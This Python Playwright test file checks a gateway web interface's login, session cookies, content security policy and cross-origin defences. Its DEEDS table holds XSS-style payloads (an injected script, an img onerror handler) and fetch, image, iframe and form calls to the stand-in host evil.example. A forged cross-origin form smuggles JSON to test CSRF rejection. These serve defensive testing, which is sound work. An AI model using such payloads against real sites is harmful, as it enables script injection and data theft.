"""The log-in in a browser, and what a browser lets other sites do."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Page, expect

from gateway.live.pages import FOLDER
from gateway.server import Gateway
from tests.support.console import DEADLINE_MS, TOKEN, browser, gateway, open_page

READ_TOKEN = "a-token-that-only-looks"
OPENED = """address => new Promise(done => {
  const socket = new WebSocket(address);
  socket.onopen = () => { socket.close(); done(true); };
  socket.onerror = () => done(false);
})"""


@asynccontextmanager
async def page_of(folder: Path, path: str = "/", **options: Any) -> AsyncIterator[Page]:
    """A page of a gateway that has both tokens."""
    async with (
        gateway(folder, api_read_token=READ_TOKEN) as served,
        browser() as chromium,
        open_page(chromium, served, path, **options) as page,
    ):
        yield page


async def log_in(page: Page, token: str) -> None:
    await page.get_by_label("Token").fill(token)
    await page.keyboard.press("Enter")


async def test_the_log_in_leads_to_the_page_that_was_asked_for(tmp_path: Path) -> None:
    async with page_of(tmp_path, "/settings?q=port", token=None) as page:
        await log_in(page, TOKEN)
        await expect(page.get_by_role("heading", name="Settings")).to_be_visible()
        assert page.url.endswith("/settings?q=port")


async def test_the_log_in_needs_no_script(tmp_path: Path) -> None:
    async with page_of(tmp_path, "/calls", token=None, java_script_enabled=False) as page:
        await log_in(page, TOKEN)
        await expect(page).to_have_title("Gateway")
        assert page.url.endswith("/calls")


async def test_a_wrong_token_is_told_and_may_be_tried_again(tmp_path: Path) -> None:
    async with page_of(tmp_path, token=None) as page:
        await log_in(page, "wrong")
        await expect(page.get_by_role("alert")).to_have_text("This is not a token of this gateway.")
        await expect(page.get_by_label("Token")).to_be_focused()
        await log_in(page, TOKEN)
        await expect(page.get_by_role("button", name="Log out")).to_be_visible()


async def test_the_token_can_be_shown(tmp_path: Path) -> None:
    async with page_of(tmp_path, token=None) as page:
        await page.get_by_role("button", name="Show").click()
        await expect(page.get_by_label("Token")).to_have_attribute("type", "text")


async def test_after_the_log_out_nothing_is_seen_any_more(tmp_path: Path) -> None:
    async with page_of(tmp_path, "/settings") as page:
        await page.get_by_role("button", name="Log out").click()
        await expect(page.get_by_label("Token")).to_be_visible()
        await page.go_back()
        await expect(page.get_by_label("Token")).to_be_visible()
        assert await page.context.cookies() == []


async def test_a_session_that_ended_elsewhere_leads_to_the_log_in(tmp_path: Path) -> None:
    async with page_of(tmp_path, "/settings") as page:
        await expect(page.get_by_role("heading", name="Settings")).to_be_visible()
        await page.context.clear_cookies()
        await page.get_by_role("link", name="Calls").click()
        await expect(page.get_by_label("Token")).to_be_visible()
        assert page.url.endswith("/login?next=%2Fcalls")


async def test_a_token_in_the_address_does_not_stay_there(tmp_path: Path) -> None:
    async with page_of(tmp_path, f"/settings?token={TOKEN}&q=port", token=None) as page:
        await expect(page.get_by_role("heading", name="Settings")).to_be_visible()
        assert page.url.endswith("/settings?q=port")
        assert await page.evaluate("history.length") == 2  # the empty page at first, and this one


async def test_a_read_token_looks_and_is_offered_no_phone(tmp_path: Path) -> None:
    async with page_of(tmp_path, token=READ_TOKEN) as page:
        await expect(page.get_by_text("Read only")).to_be_visible()
        await expect(page.get_by_role("link", name="Outbox")).to_be_visible()
        await expect(page.get_by_role("link", name="Phone", exact=True)).to_have_count(0)


async def test_no_script_reaches_the_cookie(tmp_path: Path) -> None:
    async with page_of(tmp_path) as page:
        assert len(await page.context.cookies()) == 1
        assert await page.evaluate("document.cookie") == ""


# ── The policy ──────────────────────────────────────────────────────────────────────────────────────────────────────


async def test_the_policy_allows_sockets_and_audio_worklets_of_the_gateway(tmp_path: Path) -> None:
    async with page_of(tmp_path) as page:  # which fails if its policy was broken
        assert await page.evaluate(OPENED, await page.evaluate("`ws://${location.host}/api/feed`"))
        for worklet in (FOLDER / "worklets").glob("*.js"):
            await page.evaluate(f"new AudioContext().audioWorklet.addModule('/assets/worklets/{worklet.name}')")
        made = "new Audio(URL.createObjectURL(new Blob(['no sound'], { type: 'audio/wav' }))).play().catch(String)"
        assert "NotSupportedError" in await page.evaluate(made)  # it was read, and is no sound


DEEDS = {
    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), {text: 'ran = 1'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"ran = 1\">')",
    "connect-src": "fetch('https://evil.example/').catch(() => null)",
    "img-src": "new Image().src = 'https://evil.example/x.png'",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
    "form-action": "Object.assign(document.querySelector('form'), {action: 'https://evil.example/'}).submit()",
}


async def test_text_that_became_part_of_a_page_could_neither_run_nor_tell(tmp_path: Path) -> None:
    async with gateway(tmp_path) as served, browser() as chromium:
        context = await chromium.new_context(base_url=served.url)
        page = await context.new_page()
        await page.goto(f"/?token={TOKEN}")
        await expect(page.get_by_role("button", name="Log out")).to_be_visible()
        broken = [
            await page.evaluate(
                f"""new Promise(done => {{
                  const told = (event) => done(event.effectiveDirective);
                  addEventListener("securitypolicyviolation", told, {{ once: true }});
                  {deed};
                }})"""
            )
            for deed in DEEDS.values()
        ]
        ran = await page.evaluate("window.ran ?? null")
        await context.close()
    assert (broken, ran) == (list(DEEDS), None)


# ── Other sites ─────────────────────────────────────────────────────────────────────────────────────────────────────


@asynccontextmanager
async def foreign_page(served: Gateway) -> AsyncIterator[Page]:
    """
    A page of another origin, in a browser that is logged in.

    It is another port of the same host: to browsers the same site, so that they send our cookie with all it asks.
    """

    async def document(_request: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>Another</title>", content_type="text/html")

    app = web.Application()
    app.router.add_get("/", document)
    async with TestServer(app, host="127.0.0.1") as other, browser() as chromium:
        context = await chromium.new_context(base_url=served.url)
        context.set_default_timeout(DEADLINE_MS)
        page = await context.new_page()
        await page.goto(f"/?token={TOKEN}")
        await page.goto(str(other.make_url("/")))
        yield page
        await context.close()


async def test_another_origin_opens_no_socket(tmp_path: Path) -> None:
    async with gateway(tmp_path) as served, foreign_page(served) as page:
        assert await page.evaluate(OPENED, f"{served.url.replace('http', 'ws', 1)}/api/feed") is False


async def posted(page: Page, address: str, encoding: str) -> tuple[int, bool]:
    """A form of this page: the status of the answer, and whether the browser sent the cookie along."""
    async with page.expect_navigation() as gone:
        await page.evaluate(
            """([action, enctype]) => {
              const form = Object.assign(document.createElement("form"), { method: "post", action, enctype });
              const json = { name: '{"endpoint": null, "a": "', value: '"}' };
              form.append(Object.assign(document.createElement("input"), json));
              document.body.append(form);
              form.submit();
            }""",
            [address, encoding],
        )
    answer = await gone.value
    return answer.status, "gateway_session" in (await answer.request.all_headers()).get("cookie", "")


async def test_another_origins_form_changes_nothing(tmp_path: Path) -> None:
    async with gateway(tmp_path) as served, foreign_page(served) as page:
        assert await posted(page, f"{served.url}/api/outbox/retry-dead", "text/plain") == (403, True)


async def test_another_origin_logs_nobody_out(tmp_path: Path) -> None:
    async with gateway(tmp_path) as served, foreign_page(served) as page:
        assert await posted(page, f"{served.url}/logout", "application/x-www-form-urlencoded") == (403, True)
        await page.goto(f"{served.url}/settings")
        await expect(page.get_by_role("heading", name="Settings")).to_be_visible()


async def test_another_origin_shows_no_page_of_ours_in_a_frame(tmp_path: Path) -> None:
    async with gateway(tmp_path) as served, foreign_page(served) as page:
        await page.evaluate(
            """(address) => new Promise((done) => {
              const frame = Object.assign(document.createElement("iframe"), { src: address, onload: done });
              document.body.append(frame);
            })""",
            f"{served.url}/settings",
        )
        assert await page.frames[1].content() is not None
        assert await page.frame_locator("iframe").get_by_text("Settings").count() == 0


async def test_a_link_of_another_site_opens_the_page(tmp_path: Path) -> None:
    async with gateway(tmp_path) as served, foreign_page(served) as page:
        await page.evaluate(
            """(address) => {
              const link = Object.assign(document.createElement("a"), { href: address, text: "See" });
              document.body.append(link);
            }""",
            f"{served.url}/settings",
        )
        await page.get_by_text("See").click()
        await expect(page.get_by_role("heading", name="Settings")).to_be_visible()
